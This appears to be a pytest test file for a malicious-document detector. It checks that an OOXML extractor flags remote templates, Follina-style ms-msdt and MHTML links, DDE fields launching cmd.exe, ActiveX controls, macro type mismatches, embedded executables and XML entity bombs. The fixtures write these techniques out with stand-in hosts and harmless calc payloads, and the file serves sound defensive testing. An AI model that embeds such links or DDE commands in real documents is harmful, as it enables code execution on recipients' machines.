"""OOXML: external relationships, exploit link schemes, DDE, ActiveX, customUI, type mismatch, embeddings."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from maldoc.extractors.ooxml import OoxmlExtractor
from maldoc.samples import ooxml as gen_ooxml
from maldoc.types import Flag

sys.path.insert(0, str(Path(__file__).parent))
import office_fixtures as fx

SETTINGS = "word/_rels/settings.xml.rels"
DOC_RELS = "word/_rels/document.xml.rels"


def run_rels(*items: tuple[str, str, bool], part: str = DOC_RELS, name: str = "x.docx"):
    return fx.run(OoxmlExtractor(), fx.docx({part: fx.rels(*items)}), name)


def test_plain_docx_is_quiet() -> None:
    out = fx.run(OoxmlExtractor(), fx.docx(), "clean.docx")
    assert fx.rules(out) == set() and out.children == [] and out.urls == []
    assert out.features["ooxml.parts"] == 3 and out.features["ooxml.external_rels"] == 0


@pytest.mark.parametrize(("kind", "target", "rule", "feature"), [
    ("attachedTemplate", "https://evil.example/t.dotm", "OOXML_REMOTE_TEMPLATE", "remote_templates"),
    ("oleObject", "http://evil.example/x.rtf", "OOXML_EXTERNAL_OLE", "external_oleobjects"),
    ("frame", "http://evil.example/f.html", "OOXML_EXTERNAL_FRAME", "external_frames"),
    ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", "OOXML_MHTML_LINK",
     "mhtml_targets"),
    ("oleObject", "http://evil.example/follina.html!", "OOXML_MSDT_LINK", "msdt_targets"),
    ("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", "OOXML_MSDT_LINK", "msdt_targets"),
    ("attachedTemplate", "\\\\198.51.100.7\\share\\t.dotm", "OOXML_UNC_TARGET", "unc_targets"),
])
def test_dangerous_external_relationships(kind: str, target: str, rule: str, feature: str) -> None:
    out = run_rels((kind, target, True), part=SETTINGS if kind == "attachedTemplate" else DOC_RELS)
    assert rule in fx.rules(out), (out.findings, out.errors)
    assert out.features[f"ooxml.{feature}"] == 1
    assert out.features["ooxml.external_rels"] == 1


def test_external_targets_feed_the_url_features() -> None:
    out = run_rels(("hyperlink", "https://www.example.org/page", True),
                   ("attachedTemplate", "https://evil.example/t.dotm", True), part=SETTINGS)
    assert set(out.urls) == {"https://www.example.org/page", "https://evil.example/t.dotm"}
    assert out.features["ooxml.hyperlinks"] == 1 and out.features["ooxml.urls"] == 2
    assert "OOXML_REMOTE_TEMPLATE" in fx.rules(out)
    assert not (fx.rules(run_rels(("hyperlink", "https://www.example.org/page", True))))  # links alone: quiet


def test_internal_template_is_not_remote() -> None:
    out = run_rels(("attachedTemplate", "file:///C:/Users/a/Normal.dotm", False), part=SETTINGS)
    assert "OOXML_REMOTE_TEMPLATE" not in fx.rules(out)


def test_generator_remote_template_and_ole_link() -> None:
    data = gen_ooxml.word(gen_ooxml.WordDoc(paragraphs=["Hi"], template_url="http://evil.example/t.dotm",
                                            ole_links=["http://evil.example/o.rtf"]))
    out = fx.run(OoxmlExtractor(), data, "g.docx")
    assert {"OOXML_REMOTE_TEMPLATE", "OOXML_EXTERNAL_OLE"} <= fx.rules(out), out.errors


def test_dde_field_split_across_runs() -> None:
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    out = fx.run(OoxmlExtractor(), fx.docx(document=fx.document_xml(body)), "dde.docx")
    assert out.features["ooxml.dde_fields"] == 1 and "OFFICE_DDE" in fx.rules(out)


def test_generator_dde_field_and_remote_includepicture() -> None:
    data = gen_ooxml.word(gen_ooxml.WordDoc(paragraphs=["x"], fields=['DDEAUTO c:\\\\cmd.exe "/c calc"']))
    assert "OFFICE_DDE" in fx.rules(fx.run(OoxmlExtractor(), data, "g.docx"))
    body = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://track.example/p.png&quot; \\d"/></w:p>'
    out = fx.run(OoxmlExtractor(), fx.docx(document=fx.document_xml(body)), "pic.docx")
    assert out.features["ooxml.remote_fields"] == 1 and "OFFICE_DDE" not in fx.rules(out)


def test_excel_dde_link() -> None:
    part = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    out = fx.run(OoxmlExtractor(), fx.docx({"xl/externalLinks/externalLink1.xml": part}), "d.xlsx")
    assert "OFFICE_DDE" in fx.rules(out)


def test_activex_and_customui_onload() -> None:
    out = fx.run(OoxmlExtractor(), fx.docx({
        "word/activeX/activeX1.xml": '<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
        "customUI/customUI14.xml": '<customUI onLoad="Ribbon_Load"><ribbon/></customUI>'}), "ax.docm")
    assert out.features["ooxml.activex_controls"] == 1 and out.features["ooxml.customui_onload"] == 1
    assert {"OOXML_ACTIVEX", "OOXML_CUSTOMUI_ONLOAD"} <= fx.rules(out)


def test_macro_content_type_behind_docx_name() -> None:
    data = fx.docm("Sub AutoOpen()\nEnd Sub")
    out = fx.run(OoxmlExtractor(), data, "invoice.docx")
    assert out.features["ooxml.macro_type_mismatch"] == 1 and out.features["ooxml.vba_project"] == 1
    assert "OOXML_MACRO_TYPE_MISMATCH" in fx.rules(out)
    same = fx.run(OoxmlExtractor(), data, "invoice.docm")
    assert "OOXML_MACRO_TYPE_MISMATCH" not in fx.rules(same) and same.features["ooxml.macro_content_type"] >= 1


def test_embeddings_are_children_with_their_names() -> None:
    inner = fx.doc_with_vba("Sub AutoOpen()\nEnd Sub")
    out = fx.run(OoxmlExtractor(), fx.docx({"word/embeddings/oleObject1.bin": inner,
                                            "word/media/run.exe": b"MZ" + b"\0" * 100}), "e.docx")
    names = {c.name for c in out.children}
    assert names == {"word/embeddings/oleObject1.bin", "word/media/run.exe"}
    assert out.features["ooxml.embeddings"] >= 1 and "OOXML_EMBEDDED_OBJECT" in fx.rules(out)


def test_risky_member_outside_known_folders_is_a_child() -> None:
    out = fx.run(OoxmlExtractor(), fx.docx({"word/payload.js": "WScript.Echo(1)"}), "j.docx")
    assert [c.name for c in out.children] == ["word/payload.js"]
    assert out.features["ooxml.non_xml_parts"] == 1


def test_entity_declarations_are_refused_not_expanded() -> None:
    bomb = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="x/attachedTemplate" Target="&b;" TargetMode="External"/></Relationships>')
    out = fx.run(OoxmlExtractor(), fx.docx({DOC_RELS: bomb}), "bomb.docx")
    assert "OOXML_XML_ENTITY" in fx.rules(out) and out.features["ooxml.xml_entities"] >= 1
    assert Flag.PARSE_ERROR in out.flags and "OOXML_REMOTE_TEMPLATE" not in fx.rules(out)


def test_broken_package_is_flagged() -> None:
    out = fx.run(OoxmlExtractor(), fx.docx()[:60], "cut.docx")
    assert out.flags & {Flag.TRUNCATED, Flag.PARSE_ERROR}


@pytest.mark.parametrize(("target", "place"), [
    ("file:///C:\\Users\\a\\Normal.dotm", "local"), ("Normal.dotm", "local"), ("file://localhost/x.dotx", "local"),
    ("\\\\fileserver\\templates\\t.dotm", "unc"), ("file://fileserver/t.dotm", "unc"),
    ("https://x.example/t.dotm", "remote"), ("mhtml:http://x/y!z", "remote"),
])
def test_target_location(target: str, place: str) -> None:
    from maldoc.extractors.ooxml import location

    assert location(target) == place


def test_template_on_the_authors_disk_is_not_remote() -> None:
    out = run_rels(("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", True), part=SETTINGS)
    assert fx.rules(out) == set() and out.features["ooxml.local_targets"] == 1
